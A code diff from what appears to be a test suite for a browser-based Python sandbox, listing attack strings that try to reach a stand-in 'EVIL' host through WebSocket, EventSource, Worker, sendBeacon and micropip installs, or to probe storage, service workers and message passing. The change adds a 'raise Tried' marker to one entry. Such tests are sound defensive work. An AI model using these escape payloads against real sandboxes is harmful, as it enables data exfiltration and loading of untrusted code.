@@ -79,7 +79,7 @@ ATTACKS = (
     "js.WebSocket.new(EVIL.replace('http', 'ws')); raise Tried",
     "js.EventSource.new(EVIL); raise Tried", "import micropip; micropip.install(EVIL)",
     "js.Worker.new(EVIL); raise Tried", "js.navigator.sendBeacon(EVIL)", "raise SystemExit",
-    "js.navigator.serviceWorker.getRegistrations()",
+    "js.navigator.serviceWorker.getRegistrations(); raise Tried",
     "js.navigator.storage.getDirectory(); raise Tried",
     "js.postMessage(js.JSON.parse('{\"kind\": \"open\", \"state\": null}')); raise Tried",
     "js.postMessage(js.JSON.parse('{\"kind\": \"height\", \"value\": 1e9}')); raise Tried",
